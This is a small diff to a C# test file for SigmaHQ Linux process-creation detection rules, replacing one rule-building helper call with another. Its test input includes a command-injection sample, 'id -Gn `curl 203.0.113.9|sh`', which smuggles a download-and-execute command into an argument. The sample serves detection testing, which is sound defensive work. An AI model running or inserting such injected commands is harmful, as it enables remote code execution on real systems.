@@ -228,7 +228,7 @@ public sealed class SigmaHqLinuxProcessCreationTests
         var rule = Rule("c8a5f584-cdc8-42cc-8cce-0398e4265de3");
 
         Assert.False(rule.Fires(Format, Exec("/usr/bin/id", "-Gn `curl 203.0.113.9|sh`", "/bin/bash", "-c \"id -Gn `curl 203.0.113.9|sh`\"")));
-        Assert.True(RuleTesting.One(SigmaIdp.RuleText("product: linux\ncategory: process_creation", "selection:\n  ParentImage|endswith: /bash\n  CommandLine|contains: 'id -Gn `'\ncondition: selection"))
+        Assert.True(SigmaIdp.Inline("product: linux\ncategory: process_creation", "selection:\n  ParentImage|endswith: /bash\n  CommandLine|contains: 'id -Gn `'\ncondition: selection")
             .Fires(Format, Exec("/usr/bin/id", "-Gn `curl 203.0.113.9|sh`", "/bin/bash", "-c \"id -Gn `curl 203.0.113.9|sh`\"")));
     }
 
